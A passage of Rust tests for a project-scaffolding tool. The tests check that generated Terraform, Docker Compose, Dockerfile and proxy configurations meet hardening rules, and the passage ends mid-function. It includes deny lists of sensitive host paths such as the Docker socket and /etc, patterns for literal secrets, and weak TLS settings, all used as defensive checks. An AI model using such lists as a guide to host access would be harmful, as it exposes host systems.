fn terraform_variables_are_typed_and_described_and_state_is_locked() {
    let p = Project::new();
    p.init("go-service");
    let tf: Vec<String> =
        p.tree().keys().filter(|k| k.starts_with("infra/terraform/") && k.ends_with(".tf")).cloned().collect();
    assert!(tf.len() > 20, "{tf:?}");
    for rel in &tf {
        let text = p.read(rel);
        let mut rest = text.as_str();
        while let Some(at) = rest.find("\nvariable \"") {
            let block = &rest[at + 1..];
            let end = block.find("\n}").unwrap_or(block.len());
            let body = &block[..end];
            let name = body.split('"').nth(1).unwrap_or("?");
            assert!(body.contains("\n  type "), "{rel}: variable `{name}` has no type");
            assert!(body.contains("\n  description "), "{rel}: variable `{name}` has no description");
            rest = &block[end..];
        }
        for literal in ["password = \"", "secret_key", "access_key = \"", "auth_token = \""] {
            assert!(!text.contains(literal), "{rel}: `{literal}`");
        }
    }
    for env in ["staging", "production"] {
        let versions = p.read(&format!("infra/terraform/envs/{env}/versions.tf"));
        assert!(
            versions.contains("use_lockfile = true") && versions.contains("encrypt      = true")
                || versions.contains("encrypt = true"),
            "{versions}"
        );
        assert!(!versions.contains("dynamodb_table"), "{env}: DynamoDB locking is deprecated");
        assert!(versions.contains(">= 1.11"), "{env}: required_version");
    }
    // The WAF follows the answers: the 8 KB managed body rule only counts (max_body is 4MB here),
    // and the answered login path gets its own rate rule.
    let edge = p.read("infra/terraform/modules/edge/main.tf");
    let body = edge.find("name = \"SizeRestrictions_BODY\"").expect("an override of the managed body-size rule");
    let counted = "name = \"SizeRestrictions_BODY\"\n\n          action_to_use {\n            count {}";
    assert!(edge[body..].starts_with(counted), "{}", &edge[body..body + 120]);
    let production = p.read("infra/terraform/envs/production/main.tf");
    assert!(production.contains("rate_limited_paths = [\"/v1/login\"]"), "{production}");
    // CI's deploy role rolls out ECS and cannot push images; the push role can do nothing else.
    let ci = p.read("infra/terraform/modules/ci-identity/main.tf");
    let (deploy, push) = ci.split_at(ci.find("resource \"aws_iam_role\" \"push\"").expect("a push role"));
    assert!(!deploy.contains("ecr:PutImage") && push.contains("ecr:PutImage") && !push.contains("ecs:"), "{ci}");
    assert!(deploy.contains("task-definition/${f}:*"), "RunTask allows the one-off families it is given");
    assert!(
        production.contains("task_definition_families = [module.compute.task_families[\"migrate\"]]"),
        "CI may run the migration task, and no other: {production}"
    );
    assert!(edge.contains("for_each = { for i, p in var.rate_limited_paths : p => i }"));
}

/// Reviewed exceptions to the per-service properties, each with its reason.
const COMPOSE_EXEMPT: &[(&str, &str, &str)] = &[
    ("migrate", "healthcheck", "one-shot: runs the migrations and exits; apps wait for its exit code"),
    ("cadvisor", "user", "reads /var/lib/docker and cgroups, which only root can"),
    ("cadvisor-docker-proxy", "user", "serves the Docker socket, which only root can open; read-only API subset"),
    ("docker-socket-proxy", "user", "serves the Docker socket, which only root can open; CONTAINERS=1 only"),
    ("traefik-acme-volume", "user", "one-shot: gives the root-owned ACME volume to the traefik user (CAP_CHOWN only)"),
    ("traefik-acme-volume", "healthcheck", "one-shot: traefik waits for its exit code"),
    ("caddy-volumes", "user", "one-shot: gives the root-owned data volumes to the caddy user (CAP_CHOWN only)"),
    ("caddy-volumes", "healthcheck", "one-shot: caddy waits for its exit code"),
    ("certbot", "user", "writes /etc/letsencrypt for nginx; no capabilities, edge network only"),
    ("loki-docker-proxy", "user", "serves the Docker socket, which only root can open; CONTAINERS=1 only"),
    ("loki", "healthcheck", "the image has no shell or HTTP client to probe /ready; Grafana shows ingestion stopping"),
    ("alloy", "healthcheck", "the image has no HTTP client to probe /-/ready; Grafana shows log shipping stopping"),
    ("otel-collector", "healthcheck", "distroless image without a shell or client; traces stopping shows in Grafana"),
    ("tempo", "healthcheck", "the image has no shell or HTTP client to probe /ready"),
    ("jaeger", "healthcheck", "the image has no shell or HTTP client to probe its health port"),
    (
        "nginx-exporter",
        "healthcheck",
        "an image from scratch, without a shell or client; PrometheusTargetMissing sees it",
    ),
    ("node-exporter", "no sensitive host paths", "host metrics: /proc, /sys and / read-only"),
    ("cadvisor", "no sensitive host paths", "container metrics: /, /sys and /var/lib/docker read-only"),
];

/// HARDENING §7, per service of every preset's parsed compose file.
#[test]
fn every_compose_service_is_hardened() {
    let exempt = |svc: &str, prop: &str| COMPOSE_EXEMPT.iter().any(|(s, p, _)| *s == svc && *p == prop);
    let proxies = ["nginx", "traefik", "caddy"];
    // Each preset as it comes, and with every optional component's services too.
    let all = format!("components=[{}]", optional_components().join(","));
    let required: Vec<String> = optional_components().iter().flat_map(|id| required_settings(id)).collect();
    for (preset, optional) in PRESETS.iter().flat_map(|p| [(*p, false), (*p, true)]) {
        let p = Project::new();
        let mut args = vec!["init", "--preset", preset, "--yes"];
        if optional {
            args.extend(["--set", all.as_str()]);
            args.extend(required.iter().map(String::as_str));
        }
        p.run(&args).ok();
        let doc = yaml_file(&p, "docker-compose.prod.yml");
        assert!(doc.get("version").is_none() && doc["name"].is_string(), "{preset}: top-level name, no version");
        assert_eq!(doc["networks"]["backend"]["internal"], true, "{preset}: backend network must be internal");
        let answers = yaml_file(&p, "scaffold.yaml");
        let traefik = answers["proxy"] == "traefik";
        for (name, s) in doc["services"].as_object().unwrap() {
            let has = |k: &str| s.get(k).is_some_and(|v| !v.is_null());
            let problems: Vec<&str> = [
                ("user", has("user") && s["user"] != "root" && !s["user"].as_str().unwrap_or("").starts_with("0")),
                ("read_only", s["read_only"] == true),
                ("cap_drop", s["cap_drop"].as_array().is_some_and(|a| a.iter().any(|c| c == "ALL"))),
                ("no-new-privileges", s["security_opt"].to_string().contains("no-new-privileges:true")),
                ("limits", has("pids_limit") && has("mem_limit") && has("cpus")),
                ("healthcheck", has("healthcheck") && s["healthcheck"].get("start_period").is_some()),
                ("restart", has("restart")),
                ("log rotation", s["logging"]["options"]["max-size"].is_string()),
                ("pinned image", s["image"].as_str().is_some_and(|i| i.contains(':') && !i.ends_with(":latest"))),
                ("no privileged", s.get("privileged").is_none_or(|v| v == false)),
                (
                    "no host namespaces",
                    ["network_mode", "pid", "ipc", "uts", "userns_mode"]
                        .iter()
                        .all(|k| s.get(*k) != Some(&serde_json::json!("host"))),
                ),
                ("ports only on the proxy", !has("ports") || proxies.contains(&name.as_str())),
                (
                    "socket read-only",
                    !s["volumes"].to_string().contains("docker.sock")
                        || s["volumes"].to_string().contains("docker.sock:ro"),
                ),
                ("stop_grace_period", has("stop_grace_period") || s["restart"] == "no"),
                ("seccomp and apparmor confined", !s["security_opt"].to_string().contains("unconfined")),
                (
                    "no sensitive host paths",
                    s["volumes"].as_array().into_iter().flatten().filter_map(|v| v.as_str()).all(|v| {
                        let host = v.split(':').next().unwrap_or("");
                        !["/", "/etc", "/proc", "/sys", "/var/run", "/var/lib/docker"].iter().any(|p| {
                            host == *p || (host.starts_with(&format!("{p}/")) && !host.ends_with("docker.sock"))
                        })
                    }),
                ),
            ]
            .into_iter()
            .filter(|(prop, ok)| !ok && !exempt(name, prop))
            .map(|(prop, _)| prop)
            .collect();
            assert!(problems.is_empty(), "{preset}: service `{name}` lacks {problems:?}");
            // Traefik routes come from labels: on each public app, and on nothing else.
            let routed = s["labels"]["traefik.enable"] == "true";
            let public_app = answers["services"]
                .as_array()
                .unwrap()
                .iter()
                .any(|a| a["name"] == name.as_str() && a["public"] != false);
            assert_eq!(routed, traefik && public_app, "{preset}: `{name}` traefik.enable label");
            if answers["services"].as_array().unwrap().iter().any(|a| a["name"] == name.as_str()) {
                let image = s["image"].as_str().unwrap();
                assert!(image.contains(":${IMAGE_TAG:?"), "{preset}: `{name}` image {image}: rollback is a tag change");
                let node = answers["stack"]["runtime"] == "node";
                assert!(s["init"] == true || !node, "{preset}: `{name}` init: true for Node");
                let needs = &s["depends_on"];
                if answers["postgres"]["enabled"] != false {
                    assert_eq!(needs["migrate"]["condition"], "service_completed_successfully", "{preset}: `{name}`");
                    assert_eq!(needs["postgres"]["condition"], "service_healthy", "{preset}: `{name}`");
                }
                if answers["redis"]["enabled"] != false {
                    assert_eq!(needs["redis"]["condition"], "service_healthy", "{preset}: `{name}`");
                }
            }
            for (key, value) in s["environment"].as_object().into_iter().flatten() {
                let secretish = ["PASSWORD", "SECRET", "TOKEN", "DSN", "KEY"].iter().any(|w| key.contains(w));
                assert!(
                    !secretish
                        || key.ends_with("_FILE")
                        || value.as_str().is_some_and(|v| v.starts_with("/run/secrets/")),
                    "{preset}: `{name}` has a literal `{key}`"
                );
            }
        }
    }
}

/// HARDENING §6, from each preset's Dockerfile and .dockerignore, stage by stage.
#[test]
fn dockerfiles_are_multi_stage_pinned_non_root_and_migrate_ready() {
    for preset in PRESETS {
        let p = Project::new();
        p.init(preset);
        let answers = yaml_file(&p, "scaffold.yaml");
        let text = p.read("Dockerfile");
        let mut stages: Vec<(String, Vec<String>)> = Vec::new();
        for line in text.lines().filter(|l| !l.starts_with('#') && !l.trim().is_empty()) {
            if let Some(from) = line.strip_prefix("FROM ") {
                let (image, alias) =
                    from.split_once(" AS ").unwrap_or_else(|| panic!("{preset}: unnamed stage `{line}`"));
                let tag = image.rsplit_once(':').map(|(_, t)| t).unwrap_or("");
                // `scratch` is no image but the empty start of one: nothing is pulled.
                assert!(
                    image == "scratch" || (!tag.is_empty() && tag != "latest"),
                    "{preset}: `{image}` is not pinned to a version tag"
                );
                assert!(stages.iter().all(|(a, _)| a != alias), "{preset}: stage `{alias}` twice");
                stages.push((alias.to_owned(), Vec::new()));
            } else if let Some((_, body)) = stages.last_mut() {
                body.push(line.to_owned());
            }
        }
        assert!(stages.len() >= 2, "{preset}: multi-stage build");
        let stage = |name: &str| -> String {
            stages
                .iter()
                .find(|(a, _)| a == name)
                .map(|(_, b)| b.join("\n"))
                .unwrap_or_else(|| panic!("{preset}: no `{name}` stage"))
        };
        let (last, _) = stages.last().unwrap();
        assert_eq!(last, "runtime", "{preset}: the default target is the runtime stage");
        for target in ["runtime", "migrate"] {
            let body = stage(target);
            let user = body
                .lines()
                .rev()
                .find_map(|l| l.strip_prefix("USER "))
                .unwrap_or_else(|| panic!("{preset}/{target}: no USER"));
            let uid: u32 = user
                .split(':')
                .next()
                .unwrap()
                .parse()
                .unwrap_or_else(|_| panic!("{preset}/{target}: USER `{user}` is not numeric"));
            assert!(uid > 0, "{preset}/{target}: runs as root");
            for form in ["CMD ", "ENTRYPOINT "] {
                for l in body.lines().filter(|l| l.starts_with(form)) {
                    assert!(l[form.len()..].starts_with('['), "{preset}/{target}: `{l}` is not exec form");
                }
            }
        }
        assert!(stage("runtime").contains("HEALTHCHECK "), "{preset}: HEALTHCHECK in the runtime stage");
        // ADD only fetches over HTTPS (the RDS CA bundle), which COPY cannot; files are COPYed.
        assert!(
            !text.lines().any(|l| l.starts_with("ADD ") && !l.starts_with("ADD https://")),
            "{preset}: ADD instead of COPY"
        );
        let migrate = stage("migrate");
        match answers["stack"]["orm"].as_str().unwrap() {
            "prisma" => {
                assert!(stage("builder").contains("prisma generate"), "{preset}: client generated at build");
                assert!(
                    migrate.contains("\"prisma\", \"migrate\", \"deploy\""),
                    "{preset}: migrate runs `prisma migrate deploy`"
                );
            }
            "typeorm" => {
                assert!(migrate.contains("\"migration:run\""), "{preset}: migrate runs TypeORM `migration:run`")
            }
            "golang-migrate" => {
                assert!(text.contains("FROM migrate/migrate:"), "{preset}: migrate stage on golang-migrate")
            }
            other => panic!("{preset}: unexpected orm {other}"),
        }
        if answers["stack"]["runtime"] == "node" {
            assert!(text.contains("npm ci"), "{preset}: lockfile install");
            assert!(stage("runtime").contains("NODE_ENV=production"), "{preset}: NODE_ENV=production at run time");
        } else {
            assert!(
                text.contains("FROM gcr.io/distroless/static-debian12:nonroot AS runtime"),
                "{preset}: distroless runtime"
            );
        }
        let ignore = p.read(".dockerignore");
        for must in [".git", ".env", ".env.*", "secrets"] {
            assert!(ignore.lines().any(|l| l == must), "{preset}: .dockerignore lacks `{must}`");
        }
    }
}

/// HARDENING §7's stateful services, from the parsed compose file of every preset.
#[test]
fn postgres_redis_and_migrations_are_wired_as_hardening_asks() {
    for preset in PRESETS {
        let p = Project::new();
        p.init(preset);
        let doc = yaml_file(&p, "docker-compose.prod.yml");
        let answers = yaml_file(&p, "scaffold.yaml");
        let services = &doc["services"];
        let pg = &services["postgres"];
        assert_eq!(pg["environment"]["POSTGRES_PASSWORD_FILE"], "/run/secrets/postgres_password", "{preset}");
        assert!(pg["healthcheck"]["test"].to_string().contains("pg_isready"), "{preset}: pg_isready healthcheck");
        assert!(pg["volumes"].to_string().contains("postgres-data:"), "{preset}: named volume for PostgreSQL");
        assert!(pg["image"].as_str().unwrap().starts_with("postgres:"), "{preset}: the official image");
        assert!(doc["volumes"].get("postgres-data").is_some(), "{preset}");
        let migrate = &services["migrate"];
        assert_eq!(migrate["restart"], "no", "{preset}: migrate is one-shot");
        assert_eq!(migrate["depends_on"]["postgres"]["condition"], "service_healthy", "{preset}");
        if answers["redis"]["enabled"] != false {
            let redis = &services["redis"];
            assert!(redis["healthcheck"]["test"].to_string().contains("redis-cli"), "{preset}: redis healthcheck");
            assert!(redis["secrets"].to_string().contains("redis_password"), "{preset}: redis password from a secret");
            let conf = p.read("redis/redis.conf");
            for must in ["protected-mode yes", "maxmemory ", "maxmemory-policy "] {
                assert!(conf.contains(must), "{preset}: redis.conf lacks `{must}`");
            }
            if answers["redis"]["persistence"] == true {
                assert!(conf.contains("appendonly yes"), "{preset}: AOF for queues and sessions");
                assert!(doc["volumes"].get("redis-data").is_some(), "{preset}: named volume for Redis");
            }
        }
    }
}

/// HARDENING §3–5 as text properties of every proxy's rendered config, on every preset.
#[test]
fn proxy_configs_never_weaken_tls_or_headers() {
    for preset in PRESETS {
        for proxy in ["nginx", "traefik", "caddy"] {
            let p = Project::new();
            p.run(&["init", "--preset", preset, "--set", &format!("proxy={proxy}"), "--yes"]).ok();
            let text: String = p
                .tree()
                .into_iter()
                .filter(|(k, _)| k.starts_with(&format!("{proxy}/")) && !k.ends_with(".md") && !k.ends_with(".sh"))
                .map(|(_, (b, _))| String::from_utf8(b).unwrap())
                .collect();
            let lines: Vec<&str> = text.lines().filter(|l| !l.trim_start().starts_with('#')).collect();
            let config = lines.join("\n");
            for weak in [
                "TLSv1.1",
                "TLSv1 ",
                "VersionTLS10",
                "VersionTLS11",
                "tls1.0",
                "tls1.1",
                "_CBC_",
                "ssl_dhparam",
                "X-XSS-Protection \"1",
                "browserXssFilter: true",
                "ssl_stapling on",
            ] {
                assert!(!config.contains(weak), "{preset}/{proxy}: `{weak}` in the config");
            }
            // Finite-field DHE, not the ECDHE suites that contain its name.
            let dhe = config.match_indices("DHE").filter(|(i, _)| !config[..*i].ends_with("EC")).count();
            assert_eq!(dhe, 0, "{preset}/{proxy}: a DHE suite in the config");
            let hsts = config
                .find("max-age=")
                .map(|i| &config[i + 8..])
                .or_else(|| config.find("stsSeconds:").map(|i| &config[i + 11..]));
            let seconds: u64 = hsts
                .map(|t| t.trim_start().chars().take_while(char::is_ascii_digit).collect::<String>())
                .and_then(|d| d.parse().ok())
                .unwrap_or_else(|| panic!("{preset}/{proxy}: no HSTS"));
            assert!(seconds >= 63_072_000, "{preset}/{proxy}: HSTS max-age {seconds}");
            // Each header in the proxy's own words: nginx/Caddy header values, Traefik middleware keys.
            for header in [
                ["nosniff", "contentTypeNosniff: true"],
                ["strict-origin-when-cross-origin"; 2],
                ["frame-ancestors"; 2],
            ] {
                assert!(header.iter().any(|h| config.contains(h)), "{preset}/{proxy}: no `{}`", header[0]);
            }
        }
    }
}

/// Innermost `{ … }` blocks of an nginx file that set a header of their own: each must repeat the
/// security headers, as nginx drops inherited `add_header`s in a block that has any.
fn nginx_blocks_with_own_headers(conf: &str) -> Vec<String> {
    let mut open: Vec<String> = Vec::new();
    let mut offenders = Vec::new();
    for line in conf.lines().map(str::trim).filter(|l| !l.starts_with('#')) {
        if line.ends_with('{') {
            open.push(format!("{line}\n"));
        } else if line == "}" {
            let block = open.pop().unwrap_or_default();
            if block.contains("add_header") && !block.contains("include snippets/security-headers.conf;") {
                offenders.push(block);
            }
        } else if let Some(current) = open.last_mut() {
            current.push_str(line);
            current.push('\n');
        }
    }
    offenders
}

/// HARDENING §3–5, the properties particular to each proxy, read from its rendered files; nginx
/// for both ends of the versions it targets.
#[test]
fn each_proxy_config_holds_its_own_hardening_properties() {
    let read_all = |p: &Project, dir: &str| -> String {
        p.tree()
            .into_iter()
            .filter(|(k, _)| k.starts_with(dir) && !k.ends_with(".md") && !k.ends_with(".sh"))
            .flat_map(|(_, (b, _))| {
                let text = String::from_utf8(b).unwrap();
                text.lines().filter(|l| !l.trim_start().starts_with('#')).map(|l| format!("{l}\n")).collect::<Vec<_>>()
            })
            .collect()
    };
    for (nginx, openssl, modern) in [("1.22.1", "3.0.17", false), ("1.26.3", "3.5.1", true)] {
        let p = Project::new();
        p.run(&[
            "init",
            "--preset",
            "nextjs-prisma",
            "--set",
            &format!("tls.nginx_version={nginx}"),
            "--set",
            &format!("tls.openssl_version={openssl}"),
            "--yes",
        ])
        .ok();
        let conf = read_all(&p, "nginx/");
        let has = |s: &str| conf.contains(s);
        assert_eq!(has("http2 on;"), modern, "nginx {nginx}: `http2 on` only from 1.25.1");
        assert_eq!(has("ssl http2"), !modern, "nginx {nginx}: `listen … http2` below 1.25.1");
        assert_eq!(has("X25519MLKEM768"), modern, "OpenSSL {openssl}: X25519MLKEM768 only from 3.5");
        assert_eq!(has("ssl_session_tickets off;"), !modern, "nginx {nginx}: tickets off only before 1.23.2");
        for must in [
            "ssl_prefer_server_ciphers off;",
            "ssl_reject_handshake on;",
            "return 444;",
            "return 308 https://",
            "server_tokens off;",
            "location ~ /\\.(?!well-known/)",
            "limit_req zone=",
            "client_max_body_size ",
            "proxy_read_timeout 1h;",
            "always;",
        ] {
            assert!(has(must), "nginx {nginx}: `{must}` missing");
        }
        assert!(!has("ssl_stapling"), "nginx {nginx}: OCSP stapling with Let's Encrypt certificates");
        let offenders = nginx_blocks_with_own_headers(&p.read("nginx/sites/app.conf"));
        assert!(offenders.is_empty(), "blocks that drop the security headers: {offenders:#?}");
    }

    let p = Project::new();
    p.init("express-typeorm");
    let traefik = read_all(&p, "traefik/");
    for must in [
        "exposedByDefault: false",
        "endpoint: \"tcp://docker-socket-proxy:2375\"",
        "sniStrict: true",
        "keyType: EC256",
        "readTimeout:",
        "ping:",
        "format: json",
        "forceSTSHeader: true",
        "sendAnonymousUsage: false",
    ] {
        assert!(traefik.contains(must), "traefik: `{must}` missing");
    }
    for never in ["insecure: true", "browserXssFilter", "defaultRuleSyntax", "maxVersion", "/var/run/docker.sock"] {
        assert!(!traefik.contains(never), "traefik: `{never}` present");
    }

    // One policy for all three: answered hosts and the ones components add (Sentry) in connect-src.
    for proxy in ["nginx", "traefik", "caddy"] {
        let p = Project::new();
        let proxy_set = format!("proxy={proxy}");
        let args = ["init", "--preset", "go-service", "--set", &proxy_set, "--set", "components=[sentry]"];
        p.run(&[&args[..], &["--set", "csp.connect_src=[plausible.io]", "--yes"]].concat()).ok();
        let config = read_all(&p, &format!("{proxy}/"));
        // The enforced policy's last directive: quoted in nginx and Caddy, the last line of
        // Traefik's folded value (indented 10; the report-only policy's lines are indented 12).
        let hosts = "connect-src 'self' https://o0.ingest.sentry.io https://plausible.io";
        let enforced = if proxy == "traefik" { format!("\n          {hosts}\n") } else { format!("; {hosts}\"") };
        assert!(config.contains(&enforced), "{proxy}: connect-src lacks the answered or the Sentry host");
    }

    let p = Project::new();
    p.init("go-service");
    let caddy = p.read("caddy/Caddyfile");
    for must in ["\temail ", "-Server", "strict_sni_host on", "http:// {\n\tabort\n}", "max_size ", "handle_errors {"] {
        assert!(caddy.contains(must), "caddy: `{must}` missing");
    }
    let p = Project::new();
    p.run(&["init", "--preset", "go-service", "--set", "tls.profile=modern", "--yes"]).ok();
    assert!(p.read("caddy/Caddyfile").contains("protocols tls1.3\n"), "caddy modern: TLS 1.3 only");
}

/// The presets behind Traefik and Caddy have no WebSocket paths (nextjs-prisma's nginx run covers
/// nginx), so the live check holds one open past 60 s behind each of them on a project that has one.
/// Both run at once: the check mostly sleeps on the open socket.
#[test]
fn traefik_and_caddy_hold_a_websocket_open_past_the_default_read_timeout() {
    std::thread::scope(|scope| {
        for proxy in ["traefik", "caddy"] {
            scope.spawn(move || {
                let p = Project::new();
                p.run(&["init", "--preset", "nextjs-prisma", "--set", &format!("proxy={proxy}"), "--yes"]).ok();
                assert!(p.read("scaffold.yaml").contains("/ws"), "the preset lost its WebSocket path");
                let Some(row) = verify_only_row(&p, "curl", proxy) else { return };
                assert_eq!(row["outcome"], "pass", "{proxy}: {row}");
                // The check sleeps 65 s on the open WebSocket; a shorter run means it never got there.
                assert!(
                    row["seconds"].as_f64().unwrap_or(0.0) >= 65.0,
                    "{proxy}: the WebSocket part did not run: {row}"
                );
            });
        }
    });
}

/// The presets scan nginx and Traefik with the intermediate profile and Caddy with modern; the
/// other profile of each proxy is scanned live here (sslyze, ECDSA test certificate, 127.0.0.1).
#[test]
fn each_proxy_passes_the_other_mozilla_profile_live() {
    for (proxy, profile) in [("nginx", "modern"), ("traefik", "modern"), ("caddy", "intermediate")] {
        let p = Project::new();
        let sets = [format!("proxy={proxy}"), format!("tls.profile={profile}")];
        p.run(&["init", "--preset", "nextjs-prisma", "--set", &sets[0], "--set", &sets[1], "--yes"]).ok();
        let Some(row) = verify_only_row(&p, "sslyze", &format!("{proxy}/{profile}")) else { continue };
        assert_eq!(row["outcome"], "pass", "{proxy} with the {profile} profile: {row}");
    }
}

/// Every optional component at once, on every preset, through every validator.
#[test]
fn every_preset_with_every_optional_component_passes_its_validators() {
    let all = format!("components=[{}]", optional_components().join(","));
    let required: Vec<String> = optional_components().iter().flat_map(|id| required_settings(id)).collect();
    for preset in PRESETS {
        let p = Project::new();
        let mut args = vec!["init", "--preset", preset, "--set", &all, "--yes"];
        args.extend(required.iter().map(String::as_str));
        p.run(&args).ok();
        let rows = verify(&p, 0);
        let failed: Vec<_> = rows.iter().filter(|r| r["outcome"] == "fail").collect();
        assert!(failed.is_empty(), "{preset} with {all}: {failed:#?}");
    }
}

/// Splits a printed command line as a POSIX shell does for plain and single-quoted words.
fn shell_words(line: &str) -> Vec<String> {
    let mut words = Vec::new();
    let mut word: Option<String> = None;
    let mut quoted = false;
    for c in line.trim().chars() {
        match c {
            '\'' => {
                quoted = !quoted;
                word.get_or_insert_with(String::new);
            }
            c if c.is_whitespace() && !quoted => words.extend(word.take()),
            c => word.get_or_insert_with(String::new).push(c),
        }
    }
    words.extend(word);
    words
}

/// Hand-written layouts of real public repositories (`tests/fixtures/repos/<name>/`), each with
/// `<name>.yaml`: the repository and commit it reproduces and what that repository declares.
fn repo_fixtures() -> Vec<(String, yaml_serde::Value)> {
    let dir = repo_root().join("tests/fixtures/repos");
    let mut out: Vec<(String, yaml_serde::Value)> = std::fs::read_dir(&dir)
        .unwrap()
        .flatten()
        .filter_map(|e| {
            let name = e.file_name().to_string_lossy().strip_suffix(".yaml")?.to_owned();
            let facts = yaml_serde::from_str(&std::fs::read_to_string(e.path()).unwrap()).unwrap();
            Some((name, facts))
        })
        .collect();
    out.sort_by(|a, b| a.0.cmp(&b.0));
    assert!(out.len() >= 12, "at least twelve real-repository fixtures");
    out
}

/// `detect --json` of a copy of `fixture` outside this repository (inside it, detection would
/// also report the checkout as the enclosing repository).
fn detect_json(fixture: &std::path::Path) -> serde_json::Value {
    let copy = tempfile::tempdir().unwrap();
    copy_dir(fixture, copy.path());
    let mut cmd = std::process::Command::new(support::bin());
    cmd.args(["detect", "--json", "--dir"]).arg(copy.path());
    let doc: serde_json::Value = serde_json::from_str(&support::run_command(cmd, "detect --json").ok().stdout).unwrap();
    assert_eq!(doc["format"], 1, "every JSON document carries its format");
    doc
}

#[test]
fn detect_json_matches_its_snapshot_per_real_repository_fixture() {
    for (name, _) in repo_fixtures() {
        let dir = repo_root().join("tests/fixtures/repos").join(&name);
        let json = serde_json::to_string_pretty(&detect_json(&dir)).unwrap();
        assert_snapshot(&format!("detect/repos/{name}.json"), &format!("{json}\n"));
    }
}

/// `yarn test` and `yarn run test` run the same script.
fn same_command(a: &str, b: &str) -> bool {
    let norm = |s: &str| s.to_lowercase().replace(" run ", " ");
    norm(a) == norm(b)
}

#[test]
fn detection_proposes_what_each_real_repository_declares() {
    const KEYS: &[&str] = &[
        "stack.runtime",
        "stack.framework",
        "stack.orm",
        "stack.orm_version",
        "stack.package_manager",
        "stack.node_version",
        "stack.go_version",
        "postgres.enabled",
        "redis.enabled",
        "migrations.dir",
        "migrations.schema",
        "migrations.data_source",
        "migrations.data_source_js",
        "migrations.command",
        "services.0.dir",
        "services.0.port",
        "services.0.health",
        "services.0.main",
        "services.0.test",
        "services.0.lint",
    ];
    let mut wrong = Vec::new();
    for (name, facts) in repo_fixtures() {
        if facts["supported"].as_bool() == Some(false) {
            continue;
        }
        let got = detect_json(&repo_root().join("tests/fixtures/repos").join(&name))["answers"].clone();
        for key in KEYS {
            let Some(expected) = facts["expect"].get(*key) else { continue };
            if facts.get("differs").and_then(|d| d.get(*key)).is_some() {
                continue;
            }
            let expected = match expected {
                yaml_serde::Value::String(s) => s.clone(),
                other => yaml_serde::to_string(other).unwrap().trim().to_owned(),
            };
            let found = match &got[*key] {
                serde_json::Value::String(s) => s.clone(),
                serde_json::Value::Null if *key == "services.0.dir" => ".".to_owned(),
                other => other.to_string(),
            };
            if !same_command(&found, &expected) {
                wrong.push(format!("{name}: `{key}` is `{found}`, the repository declares `{expected}`"));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn init_fits_each_real_repository_and_names_what_it_does_not_render() {
    for (name, facts) in repo_fixtures() {
        let p = Project::new();
        copy_dir(&repo_root().join("tests/fixtures/repos").join(&name), &p.dir());
        if facts["supported"].as_bool() == Some(false) {
            let before = p.tree();
            let found = facts["found"].as_str().unwrap().split(' ').take(3).collect::<Vec<_>>().join(" ");
            p.run(&[
                "init",
                "--no-input",
                "--yes",
                "--set",
                "domain=app.example.com",
                "--set",
                "email=ops@example.com",
            ])
            .code(2)
            .one_error_line()
            .stderr_has(&found)
            .stderr_has("scaffold renders Node.js");
            assert_eq!(before, p.tree(), "{name}: nothing written");
            continue;
        }
        // The team takes scaffold's version of the files the repository already has.
        let init = ["init", "--no-input", "--yes", "--existing", "replace"];
        p.run(&[&init[..], &["--set", "domain=app.example.com", "--set", "email=ops@example.com"]].concat())
            .ok()
            .stdout_lacks("does not fit");
        let run = p.run(&["verify", "--only", "scaffold"]);
        assert_eq!(run.code, 0, "{name}: the cross-check fails:\n{}", run.stdout);
    }
}

#[test]
fn the_cross_check_names_a_missing_migrations_directory_and_script() {
    let p = Project::new();
    copy_dir(&repo_root().join("tests/fixtures/repos/nestjs-typeorm-datasource"), &p.dir());
    let init = ["init", "--no-input", "--yes", "--existing", "replace", "--set", "domain=app.example.com"];
    p.run(&[&init[..], &["--set", "email=ops@example.com"]].concat()).ok();
    p.run(&["verify", "--only", "scaffold"]).ok();
    std::fs::remove_dir_all(p.path("src/database/migrations")).unwrap();
    p.edit("package.json", |t| t.replace("\"lint\":", "\"lint-old\":"));
    p.edit("Dockerfile", |t| t.replace(" AS migrate", " AS migrations"));
    p.run(&["verify", "--only", "scaffold"])
        .code(1)
        .stdout_has("the migrations directory `src/database/migrations` is not in the repository")
        .stdout_has("the script `lint`")
        .stdout_has("builds the target `migrate`, which `Dockerfile` has no stage for");
}

#[test]
fn init_in_a_workspace_package_names_the_root_and_writes_nothing() {
    let p = Project::new();
    copy_dir(&repo_root().join("tests/fixtures/repos/pnpm-turbo-monorepo"), &p.dir());
    let before = p.tree();
    let mut cmd = std::process::Command::new(support::bin());
    cmd.args(["init", "--no-input", "--yes", "--set", "domain=app.example.com", "--set", "email=ops@example.com"])
        .arg("--dir")
        .arg(p.path("apps/web"));
    support::run_command(cmd, "init in apps/web")
        .code(2)
        .one_error_line()
        .stderr_has("this is `apps/web` of the repository at")
        .stderr_has("--set services.0.dir=apps/web");
    assert_eq!(before, p.tree(), "nothing written");
}

/// The `RUN` commands of one Dockerfile stage (continuations joined, BuildKit flags dropped),
/// and its `CMD` in exec form.
fn stage_commands(dockerfile: &str, stage: &str) -> (Vec<String>, Vec<String>) {
    let joined = dockerfile.replace("\\\n", " ");
    let mut runs = Vec::new();
    let mut cmd = Vec::new();
    let mut inside = false;
    for line in joined.lines().map(str::trim) {
        if line.starts_with("FROM ") {
            inside = line.ends_with(&format!(" AS {stage}"));
        } else if inside && line.starts_with("RUN ") {
            let words: Vec<&str> = line[4..].split_whitespace().skip_while(|w| w.starts_with("--")).collect();
            runs.push(words.join(" "));
        } else if inside && line.starts_with("CMD ") {
            cmd = serde_json::from_str(&line[4..]).expect("CMD in exec form");
        }
    }
    (runs, cmd)
}

/// `script` through `shell` in `dir` (`sh` as Docker runs `RUN`; `bash` for `templates/verify/lib.sh`).
fn shell(shell: &str, dir: &std::path::Path, script: &str, env: &[(&str, &str)]) -> support::Run {
    let mut cmd = std::process::Command::new(shell);
    cmd.arg("-c").arg(script).current_dir(dir).envs(env.iter().copied());
    support::run_command_keeping_env(cmd, script)
}

/// A real Express + TypeORM API (`tests/fixtures/real-build`, its own lockfile) built and run with
/// exactly the commands of the Dockerfile scaffold generates for it: the install of `deps`, the
/// build and prune of `builder`, the `migrate` image's command against a throwaway PostgreSQL,
/// and the runtime's command, probed on the health path detection found. Needs the npm registry.
#[test]
fn a_real_node_api_builds_migrates_and_answers_with_the_generated_commands() {
    if !support::require_tool("npm") || !support::require_tool("initdb") {
        return;
    }
    let reachable = std::process::Command::new("npm").args(["ping", "--fetch-timeout=10000"]).output();
    if !reachable.is_ok_and(|o| o.status.success()) {
